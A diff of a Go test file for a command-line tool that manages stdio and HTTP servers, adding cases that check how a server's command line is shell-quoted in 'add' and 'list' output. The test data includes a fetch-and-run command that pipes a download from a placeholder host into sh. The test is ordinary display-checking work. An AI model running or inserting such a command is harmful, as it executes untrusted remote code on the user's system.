@@ -73,6 +73,10 @@ func TestCLI_ServerLifecycle(t *testing.T) {
 		{[]string{"servers", "add", "Trusted", "--inherit-env", "--", "node", "trusted.js"}, 0, "It gets your whole environment"},
 		{[]string{"servers", "add", "WebAll", "--inherit-env", "--url", "https://x.example"}, 2, "--inherit-env is for stdio servers"},
 		{[]string{"servers", "list"}, 0, "Trusted      enabled  stdio      whole        node trusted.js"},
+		// A command line is shown as a shell would write it: where the script ends is visible.
+		{[]string{"servers", "add", "Script", "--", "sh", "-c", "echo a; curl https://x.example/p | sh", ""}, 0,
+			"Added Script (sh -c 'echo a; curl https://x.example/p | sh' '')"},
+		{[]string{"servers", "list"}, 0, "Script       enabled  stdio      basic        sh -c 'echo a; curl https://x.example/p | sh' ''\n"},
 		{[]string{"servers", "list"}, 0, "Remote       enabled  http       -            https://mcp.example.com/mcp"},
 		{[]string{"servers", "disable", "files"}, 0, "Files: disabled."},
 		{[]string{"servers", "list"}, 0, "Files        disabled"},
